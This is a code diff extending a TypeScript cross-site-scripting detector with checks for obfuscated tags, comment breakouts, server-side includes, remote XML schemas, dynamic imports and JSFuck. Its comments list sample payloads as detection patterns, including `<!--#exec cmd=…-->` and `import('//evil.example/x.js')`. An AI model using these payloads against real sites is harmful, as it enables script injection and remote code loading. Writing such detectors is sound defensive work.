@@ -7,7 +7,13 @@
  *   whitespace/control characters), `srcdoc`, a style with `expression(` / `url(javascript:`;
  * - raw-text closers (`</script>`, `</textarea>`, `</title>`…) used to leave a template context;
  * - attribute breakout outside a tag (`" onmouseover=`);
- * - JS-context breakout (`';alert(1)//`, `"-alert(1)-"`, `${alert(1)}`) and DOM sinks.
+ * - JS-context breakout (`';alert(1)//`, `"-alert(1)-"`, `${alert(1)}`) and DOM sinks (a sink
+ *   standing alone, `window.location` or `(document.domain)`, counts; one inside a sentence does
+ *   not at paranoia 1), dynamic `import('…')`, `top['al'+'ert'](1)`, `x.onerror=alert`, JSFuck;
+ * - leaving an HTML comment (`-->`/`--!>` the value did not open: at its start or after a quote;
+ *   elsewhere, as in `A --> B`, from paranoia 2) and server-side includes (`<!--#exec`);
+ * - tag names spelled to slip past filters (`<f o r m`, `< x: script`, `<%00script`, `<:vmlframe`);
+ * - XML that fetches a remote schema (`xsi:schemaLocation="… http://…"`), paranoia 2.
  * Harmless markup (`<b>`, `<p>`) only counts from paranoia 2, unknown tags from paranoia 3.
  * Profile `markup` (a field that legitimately carries HTML) only reports executable content.
  */
@@ -416,6 +422,12 @@ function judgeAttribute(attr: string, value: string, hasEq: boolean, best: Stron
   }
   if (v.includes('javascript:') || v.includes('vbscript:')) raise(best, 0.8, 'script URL in attribute');
   if (v.startsWith('&{')) raise(best, 0.75, 'JS entity');
+  // an XML document that makes its parser fetch a remote schema: SSRF/HTML injection, paranoia 2
+  if (
+    (attr === 'xsi:schemalocation' || attr === 'xsi:nonamespaceschemalocation') &&
+    (v.includes('http:') || v.includes('https:') || v.includes('//'))
+  )
+    raise(best, 0.4, 'remote XML schema');
   if (attr === 'dataformatas' && v === 'html') raise(best, 0.7, 'data binding as HTML');
 }
 
@@ -429,6 +441,7 @@ function scanMarkup(ctx: Ctx): void {
   while (i >= 0 && i < s.length - 1) {
     const c = s.charCodeAt(i + 1);
     let next = i + 1;
+    if (!ctx.markupOnly) scanObfuscatedTag(ctx, i);
     if (isLetter(c)) {
       let j = i + 1;
       while (j < s.length && j - i < 64) {
@@ -476,13 +489,130 @@ function scanMarkup(ctx: Ctx): void {
   }
 }
 
+/** Elements whose name is worth spelling out to slip past a filter (`<f o r m`, `< x: script`). */
+const PROBED_TAGS = new Set([
+  ...EXEC_TAGS,
+  ...Object.keys(ACTIVE_TAGS),
+  'dialog',
+  'details',
+  'marquee',
+  'img',
+  'image',
+  'input',
+  'body',
+  'video',
+  'audio',
+  'button',
+  'textarea',
+  'select',
+  'isindex',
+  'animate',
+]);
+
+/** Names that are not also words of prose or code (`x < base`, `a < object`): `< script`, `<%00iframe`. */
+const SPACED_NAMES = new Set(['script', 'iframe', 'frameset', 'applet', 'vmlframe', 'bgsound', 'isindex']);
+
+/**
+ * A tag name that a filter-evasion probe wrote with whitespace, control characters (`<%00script`)
+ * or an empty namespace prefix (`<:vmlframe`, `< x: script`) around or between its letters.
+ * Browsers do not run these, but nobody types them except to find out what a filter lets through.
+ */
+function scanObfuscatedTag(ctx: Ctx, at: number): void {
+  const { s } = ctx;
+  const limit = Math.min(s.length, at + 64);
+  const runs: string[] = [];
+  let cur = '';
+  let lead = false;
+  let colon = false;
+  let j = at + 1;
+  for (; j < limit; j++) {
+    const c = s.charCodeAt(j);
+    if (isLetter(c)) cur += s[j];
+    else if (isSpace(c) || c === 0xad) {
+      if (cur) {
+        runs.push(cur);
+        cur = '';
+      } else if (runs.length === 0) lead = true;
+    } else if (c === 58 && !colon && runs.length <= 1) {
+      // `<:name`, `< x: name`: drop the (empty or one-word) namespace prefix
+      colon = true;
+      lead = true;
+      runs.length = 0;
+      cur = '';
+    } else break;
+  }
+  if (cur) runs.push(cur);
+  if (runs.length === 0) return;
+  let name = '';
+  if (runs.length >= 3 && runs.every((r) => r.length === 1)) name = runs.join('');
+  else if (lead && SPACED_NAMES.has(runs[0])) name = runs[0];
+  if (name.length >= 3 && PROBED_TAGS.has(name)) {
+    hit(ctx, 0.6, at, j, `obfuscated tag name <${name}`);
+  }
+}
+
+/** Directives a server-side-include processor runs (`<!--#exec cmd=…-->`). */
+const SSI_DIRECTIVES = ['exec', 'include', 'echo', 'set', 'config', 'printenv', 'fsize', 'flastmod'];
+
+/**
+ * `-->` (or `--!>`) closing an HTML comment the value did not open: leaving a comment context.
+ * At the start of the value or right after a quote it is a breakout; followed by markup it is a
+ * breakout carrying markup. Elsewhere (`A --> B` in prose) it only counts from paranoia 2.
+ * Also `<!--#exec …-->` server-side includes.
+ */
+function scanComments(ctx: Ctx): void {
+  const { s } = ctx;
+  let ssi = s.indexOf('<!--#');
+  while (ssi >= 0) {
+    for (const d of SSI_DIRECTIVES) {
+      if (s.startsWith(d, ssi + 5) && !isLetter(s.charCodeAt(ssi + 5 + d.length))) {
+        hit(ctx, 0.8, ssi, ssi + 5 + d.length, `server-side include <!--#${d}`);
+      }
+    }
+    ssi = s.indexOf('<!--#', ssi + 5);
+  }
+  if (ctx.markupOnly) return;
+  const opened = s.indexOf('<!--');
+  let i = s.indexOf('--');
+  while (i >= 0) {
+    let end = -1;
+    if (s.charCodeAt(i + 2) === 62) end = i + 3;
+    else if (s.charCodeAt(i + 2) === 33 && s.charCodeAt(i + 3) === 62) end = i + 4;
+    if (end > 0 && (opened < 0 || opened > i)) {
+      let b = i - 1;
+      while (b >= 0 && i - b < 8 && isSpace(s.charCodeAt(b))) b--;
+      let k = end;
+      while (k < s.length && k - end < 8 && isSpace(s.charCodeAt(k))) k++;
+      const markup = s.charCodeAt(k) === 60 && (isLetter(s.charCodeAt(k + 1)) || s.charCodeAt(k + 1) === 33);
+      let score = 0.38;
+      if (b < 0 || isQuote(s.charCodeAt(b))) score = ctx.htmlInjection ? 0.5 : 0.4;
+      if (markup) score = 0.8;
+      hit(ctx, score, Math.max(0, b), end, 'closes an HTML comment');
+    }
+    i = s.indexOf('--', i + 2);
+  }
+}
+
 /** `" onmouseover=` outside a parsed tag: breaking out of an attribute value. */
-function scanHandlers(ctx: Ctx): void {
+function scanHandlers(ctx: Ctx, weak: boolean): void {
   const { s } = ctx;
   let i = s.indexOf('on');
   while (i >= 0) {
     const prev = i > 0 ? s.charCodeAt(i - 1) : 32;
-    if (isSpace(prev) || isQuote(prev) || prev === 47 || prev === 59) {
+    if (prev === 46 && !weak && i >= 2 && isIdent(s.charCodeAt(i - 2))) {
+      // `window.onerror=alert`: a handler set from script (code fields may do this legitimately)
+      let j = i + 2;
+      while (j < s.length && j - i < 40 && isLetter(s.charCodeAt(j))) j++;
+      let k = j;
+      while (k < s.length && k - j < 4 && isSpace(s.charCodeAt(k))) k++;
+      if (
+        HANDLERS.has(s.slice(i + 2, j)) &&
+        s.charCodeAt(k) === 61 &&
+        s.charCodeAt(k + 1) !== 61 &&
+        ctx.htmlInjection
+      )
+        hit(ctx, 0.6, i, k + 1, `handler assigned (.${s.slice(i, j)}=)`);
+    } else if (isSpace(prev) || isQuote(prev) || prev === 47 || prev === 59) {
       let j = i + 2;
       while (j < s.length && j - i < 64 && isLetter(s.charCodeAt(j))) j++;
       const name = s.slice(i + 2, j);
@@ -572,12 +702,26 @@ function scanScript(ctx: Ctx, weak: boolean): void {
         const assigned = s.charCodeAt(k) === 61 && s.charCodeAt(k + 1) !== 61;
         // a bare mention ("why document.cookie is unsafe") is prose until assigned, called or broken into
         let score = weak ? 0.35 : ctx.paranoia >= 2 ? 0.5 : 0.45;
+        // the whole value, or a token set off by punctuation (`(document.domain)`, `'…'`): not prose
+        if (!weak && ctx.htmlInjection && sink.charCodeAt(0) !== 46 && standalone(s, i, k)) score = 0.5;
         if (assigned || s.charCodeAt(k) === 40) score = 0.65;
         if (brokeOut(s, i)) score = 0.85;
         hit(ctx, score, i, Math.min(s.length, end + 24), `DOM sink ${sink}`);
       }
       i = s.indexOf(sink, end);
     }
+  }
+  // dynamic `import('//evil.example/x.js')`: loads and runs a module
+  let imp = s.indexOf('import(');
+  while (imp >= 0) {
+    const prev = imp > 0 ? s.charCodeAt(imp - 1) : 32;
+    let q = imp + 7;
+    while (q < s.length && q - imp < 10 && isSpace(s.charCodeAt(q))) q++;
+    if (!isIdent(prev) && prev !== 46 && isQuote(s.charCodeAt(q))) {
+      const score = brokeOut(s, imp) ? 0.85 : 0.6;
+      if (!weak || score >= 0.85) hit(ctx, score, imp, Math.min(s.length, q + 24), 'dynamic import(');
+    }
+    imp = s.indexOf('import(', imp + 7);
   }
   // `${alert}`, `${alert(1)}` in a template literal
   let t = s.indexOf('${');
@@ -594,6 +738,15 @@ function scanScript(ctx: Ctx, weak: boolean): void {
   scanJsfuck(ctx);
 }
 
+/** A token with nothing but punctuation (or the value's ends) on either side. */
+function standalone(s: string, from: number, to: number): boolean {
+  const before = from > 0 ? s[from - 1] : '';
+  const after = to < s.length ? s[to] : '';
+  return (
+    (before === '' || '([{\'"`=,+;:|&'.includes(before)) && (after === '' || ')]}\'"`;,.+&|'.includes(after))
+  );
+}
+
 /** `scriptalert(1)/script`: what a filter that strips `<` and `>` leaves of a script element. */
 function afterTagRemnant(s: string, at: number): boolean {
   return at >= 6 && s.startsWith('script', at - 6) && (at === 6 || !isLetter(s.charCodeAt(at - 7)));
@@ -605,9 +758,28 @@ function receiverBefore(s: string, dot: number): string {
   return s.slice(j + 1, dot);
 }
 
-/** JSFuck and similar: long runs of `[]()!+` only. */
+const JSFUCK_CHARS = '[]()!+';
+
+/** JSFuck and similar: long runs of `[]()!+` only; short ones built from `!![]` / `+[]` atoms. */
 function scanJsfuck(ctx: Ctx): void {
   const { s } = ctx;
+  // `+!![]`, `+[]`, `!+[]`: the atoms (`true`, `0`) of JSFuck; Markdown's `![](x)` has neither
+  let a = s.indexOf('[]');
+  while (a >= 0) {
+    const p = a > 0 ? s.charCodeAt(a - 1) : 0;
+    const pp = a > 1 ? s.charCodeAt(a - 2) : 0;
+    if (p === 43 || (p === 33 && (pp === 33 || pp === 43))) {
+      let l = a;
+      while (l > 0 && a - l < 32 && JSFUCK_CHARS.includes(s[l - 1])) l--;
+      let r = a + 2;
+      while (r < s.length && r - a < 32 && JSFUCK_CHARS.includes(s[r])) r++;
+      if (r - l >= 4) {
+        hit(ctx, 0.5, l, r, 'JSFuck atom');
+        break;
+      }
+    }
+    a = s.indexOf('[]', a + 2);
+  }
   let run = 0;
   let bang = 0;
   for (let i = 0; i < s.length; i++) {
@@ -756,8 +928,8 @@ function scanJsObfuscation(ctx: Ctx): void {
       const c = s.charCodeAt(j);
       if (isSpace(c)) j++;
       else if (c === 47 && s.charCodeAt(j + 1) === 42) {
-        const end = s.indexOf('*/', j + 2);
-        if (end < 0 || end - j > 32) break;
+        const end = s.slice(j + 2, j + 34).indexOf('*/') + j + 2;
+        if (end < j + 2) break;
         j = end + 2;
       } else break;
     }
@@ -767,6 +939,25 @@ function scanJsObfuscation(ctx: Ctx): void {
         if (s.startsWith(name, j + 1) && s.charCodeAt(j + 1 + name.length) === q) {
           hit(ctx, 0.75, i, j + name.length + 3, `bracket access ["${name}"]`);
         }
+      }
+    }
+    i = s.indexOf('[', i + 1);
+  }
+  // `top['al'+'ert'](1)`: a property name assembled from strings, then called
+  i = s.indexOf('[');
+  while (i >= 0) {
+    let j = i + 1;
+    while (j < s.length && j - i < 4 && isSpace(s.charCodeAt(j))) j++;
+    if (isQuote(s.charCodeAt(j))) {
+      // bounded look-ahead: an unclosed `['` must not make this quadratic
+      const close = s.slice(j, j + 64).indexOf(']') + j;
+      if (close > j) {
+        const inner = s.slice(j, close);
+        let k = close + 1;
+        while (k < s.length && k - close < 4 && isSpace(s.charCodeAt(k))) k++;
+        const called = s.charCodeAt(k) === 40 || s.charCodeAt(k) === 96;
+        if (called && /["'`]\s*\+\s*["'`]/.test(inner))
+          hit(ctx, 0.7, i, k + 1, 'property name built from strings, then called');
       }
     }
     i = s.indexOf('[', i + 1);
@@ -821,15 +1012,16 @@ export function analyzeXss(input: InspectedValue, paranoia: Paranoia): Hit | und
   if (s.indexOf('<') >= 0) scanMarkup(ctx);
   if (ctx.best !== undefined && ctx.best.score >= 0.9) return ctx.best;
   if (!ctx.markupOnly) {
-    scanHandlers(ctx);
     // code and prose fields may talk about alert() or document.cookie: only breakouts count there
     const weak = input.profile === 'code' || input.profile === 'llm-message' || input.source === 'path';
+    scanHandlers(ctx, weak);
+    scanComments(ctx);
     scanScript(ctx, weak);
     scanUtf7(ctx);
     scanCss(ctx);
     scanJsObfuscation(ctx);
     scanAttributeInjection(ctx);
-  }
+  } else if (s.indexOf('<!--#') >= 0) scanComments(ctx);
   scanSchemes(ctx);
   return ctx.best;
 }
@@ -841,7 +1033,7 @@ export const xssDetector: ValueDetector = {
   compile(options: DetectorOptions): (input: InspectedValue) => Finding[] {
     const paranoia = options.paranoia;
     return (input) => {
-      if (input.value.length < 4) return [];
+      if (input.value.length < 3) return [];
       const best = analyzeXss(input, paranoia);
       if (best === undefined || best.score < REPORT) return [];
       return [
